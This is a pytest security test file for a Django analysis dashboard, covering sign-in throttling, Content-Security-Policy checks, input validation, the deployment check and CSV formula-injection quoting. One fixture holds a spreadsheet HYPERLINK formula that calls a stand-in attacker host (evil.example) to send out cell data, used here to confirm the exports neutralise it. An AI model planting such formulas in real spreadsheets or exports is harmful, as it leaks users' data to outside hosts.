"""Security of the site as a whole: sign-in throttling, the Content-Security-Policy (and
in a real browser, that the pages break none of it), the schema behind sign-in, formula
cells in the dashboard's CSV, and the deployment check."""

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from django.urls import reverse

from tests.journeys.test_author_browser import log_in
from tests.scenarios_app.test_dashboard_charts import demo_like  # noqa: F401 (data for every chart)
from tests.conftest import PASSWORD
from tests.scenarios_app.test_analysis import answered  # noqa: F401 (two models' coded answers)

ROOT = Path(__file__).resolve().parents[2]


def _sign_in(client, username, password, address="10.0.0.1"):
    return client.post(reverse("login"), {"username": username, "password": password}, REMOTE_ADDR=address)


@pytest.mark.django_db
def test_ten_failed_sign_ins_pause_that_username_from_that_address(client, analyst, settings):
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert _sign_in(client, analyst.username, "wrong").status_code == 200  # the form again, with its error
    paused = _sign_in(client, analyst.username, "wrong")
    assert paused.status_code == 429
    text = paused.content.decode()
    assert "Too many failed sign-ins" in text and "paused for 15 minutes" in text
    # Even the right password waits out the pause from that address...
    assert _sign_in(client, analyst.username, PASSWORD).status_code == 429
    # ...but the same person elsewhere, and someone else here, still sign in.
    assert _sign_in(client, analyst.username, PASSWORD, address="10.0.0.2").status_code == 302


@pytest.mark.django_db
def test_a_successful_sign_in_clears_the_failures(client, analyst, settings):
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        _sign_in(client, analyst.username, "wrong")
    assert _sign_in(client, analyst.username, PASSWORD).status_code == 302
    client.logout()
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert _sign_in(client, analyst.username, "wrong").status_code == 200


@pytest.mark.django_db
def test_api_basic_auth_is_throttled_too(client, analyst, settings):
    import base64
    header = "Basic " + base64.b64encode(f"{analyst.username}:wrong".encode()).decode()
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.get("/api/runs/", HTTP_AUTHORIZATION=header, REMOTE_ADDR="10.0.0.3")
    good = "Basic " + base64.b64encode(f"{analyst.username}:{PASSWORD}".encode()).decode()
    assert client.get("/api/runs/", HTTP_AUTHORIZATION=good, REMOTE_ADDR="10.0.0.3").status_code in (401, 403, 429)
    assert client.get("/api/runs/", HTTP_AUTHORIZATION=good, REMOTE_ADDR="10.0.0.4").status_code == 200


@pytest.mark.django_db
def test_code_and_tests_still_sign_in_without_a_request(client, analyst):
    assert client.login(username=analyst.username, password=PASSWORD)


@pytest.mark.django_db
def test_the_schema_needs_a_sign_in(client, analyst):
    assert client.get(reverse("api-schema")).status_code in (401, 403)
    client.force_login(analyst)
    assert client.get(reverse("api-schema")).status_code == 200


@pytest.mark.django_db
def test_every_page_sends_a_policy_without_inline_scripts(client, analyst):
    client.force_login(analyst)
    for url in (reverse("home"), reverse("analysis-dashboard"), reverse("login"), reverse("api-docs")):
        response = client.get(url)
        policy = dict(part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";"))
        assert policy["default-src"] == "'self'" and policy["script-src"] == "'self'", url
        assert policy["frame-ancestors"] == "'none'" and policy["object-src"] == "'none'"
        # Every <script> is a file, or data (the figures' JSON), never inline code.
        for tag in re.findall(r"<script\b[^>]*>", response.content.decode()):
            assert "src=" in tag or 'type="application/json"' in tag, (url, tag)


@pytest.mark.django_db
def test_the_docs_start_up_script_is_a_file(client, analyst):
    client.force_login(analyst)
    html = client.get(reverse("api-docs")).content.decode()
    script = re.search(r'<script src="([^"]*script=[^"]*)"', html).group(1).replace("&amp;", "&")
    response = client.get(script)
    assert response.status_code == 200 and response["Content-Type"].startswith("application/javascript")
    assert "SwaggerUIBundle" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("query,message", [
    ({"iterations": ""}, "iterations must be a whole number, and it was empty (the Bootstrap iterations box)"),
    ({"seed": "-1"}, "seed must be between 0 and 4294967295, got &#x27;-1&#x27; (the Seed box)"),
    ({"run": str(2**70)}, "run must be between 1 and 9223372036854775807"),
    ({"choices": "abc"}, "choices must be a whole number, got &#x27;abc&#x27; (the Choices box)"),
])
def test_a_bad_filter_is_a_400_that_names_the_box_page_and_api(client, analyst, query, message):
    client.force_login(analyst)
    page = client.get(reverse("analysis-dashboard"), query)
    assert page.status_code == 400 and message in page.content.decode()
    api = client.get(reverse("api-analysis"), query)
    field = next(iter(query))
    assert api.status_code == 400 and list(api.json()) == [field] and api.json()[field][0].startswith(field + " ")
    assert client.get(reverse("analysis-answers-csv"), query).status_code == 400


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"rates")'


@pytest.fixture
def formula_model(answered):  # noqa: F811
    from runs_app.models import LLMModel
    LLMModel.objects.filter(name="hawk").update(name=FORMULA)
    return answered


def test_the_dashboards_csv_files_quote_formula_cells(client, analyst, formula_model, tmp_path):
    import csv
    import io

    from django.core.management import call_command
    client.force_login(analyst)
    query = {"run": formula_model.pk, "iterations": 200}
    panel = client.get(reverse("analysis-panel-csv", args=["rates"]), query).content.decode()
    answers = b"".join(client.get(reverse("analysis-answers-csv"), query).streaming_content).decode()
    out = tmp_path / "report.csv"
    call_command("preference_report", "--run", str(formula_model.pk), "--out", str(out), "--iterations", "200",
                 stderr=io.StringIO())
    for text in (panel, answers, out.read_text()):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + FORMULA in cells and FORMULA not in cells
        assert not any(cell.startswith(("=", "@")) for cell in cells)
    for text in (panel, out.read_text()):  # rates stay numbers, unquoted
        assert any(re.fullmatch(r"[01]\.\d{6}", cell) for row in csv.reader(io.StringIO(text)) for cell in row)


WATCH_CSP = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', e =>
  window.__csp.push(`${e.violatedDirective} blocked ${e.blockedURI || 'inline'} at ${e.sourceFile}:${e.lineNumber}`));
"""
BROWSER_PAGES = ["/analysis/cfpd/?iterations=200", "/admin/", "/admin/scenarios_app/scenario/add/",
                 "/admin/scenarios_app/scenario/", "/encoding/code/", "/api/docs/", "/api/", "/runs/"]


@pytest.mark.browser
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_pages_break_no_csp_rule_in_a_browser(page, live_server, admin_user, demo_like, settings):  # noqa: F811
    """The dashboard (every plotly chart drawn), the admin, the coding page and the API docs
    under the site's policy: no violation reported, by the page's event or the console."""
    settings.CFPD_DASHBOARD_IN_WORKER = False  # the dashboard's board built in the request: its charts at once
    console = []
    page.on("console", lambda m: "Content Security Policy" in m.text and console.append(m.text))
    page.context.add_init_script(WATCH_CSP)
    log_in(page, live_server, admin_user.username)
    found = {}
    for path in BROWSER_PAGES:
        page.goto(live_server.url + path)
        page.wait_for_load_state("networkidle")
        if path.startswith("/analysis/cfpd/"):
            page.wait_for_selector("#panel-robustness .chart[data-drawn='1']")
        if path == "/api/docs/":
            page.wait_for_selector(".swagger-ui .opblock")
        found[path] = page.evaluate("window.__csp") + console[:]
        console.clear()
    assert not any(found.values()), found
    assert not page.problems
    # The policy is enforced: an inline script slipped into the page does not run.
    page.evaluate("""() => { const s = document.createElement('script');
                             s.textContent = 'window.__ran = 1'; document.body.appendChild(s); }""")
    assert page.evaluate("window.__ran") is None
    assert any("script-src" in v for v in page.evaluate("window.__csp"))


def test_the_deployment_check_is_clean_with_production_settings(tmp_path):
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "cfpd_site.settings", "CFPD_ENV_FILE": "", "DEBUG": "0",
           "SECRET_KEY": "k" * 20 + "q7Zx3vR9mL2pT8wN4bY6cF1hJ5sD0gKaE", "CFPD_VAR_DIR": str(tmp_path),
           "SECURE_PROXY_SSL": "1", "USE_X_FORWARDED_HOST": "1", "ALLOWED_HOSTS": "cfpd.example.org"}
    for name in ("SECURE_SSL_REDIRECT", "SESSION_COOKIE_SECURE", "CSRF_COOKIE_SECURE", "SECURE_HSTS_SECONDS",
                 "DATABASE_URL", "REDIS_URL", "DJANGO_ALLOW_ASYNC_UNSAFE"):
        env.pop(name, None)
    result = subprocess.run([sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
                            cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_compose_publishes_the_web_port_on_localhost_only_for_a_proxy():
    web = yaml.safe_load((ROOT / "docker-compose.yml").read_text())["services"]["web"]
    assert web["ports"] == ["127.0.0.1:8000:8000"]
    assert "--bind 0.0.0.0:8000" in web["command"]  # inside the container, for the published port
    env = web["environment"]
    for name in ("SECURE_PROXY_SSL", "USE_X_FORWARDED_HOST"):  # off unless the proxy is there
        assert env[name] == "${" + name + ":-0}"
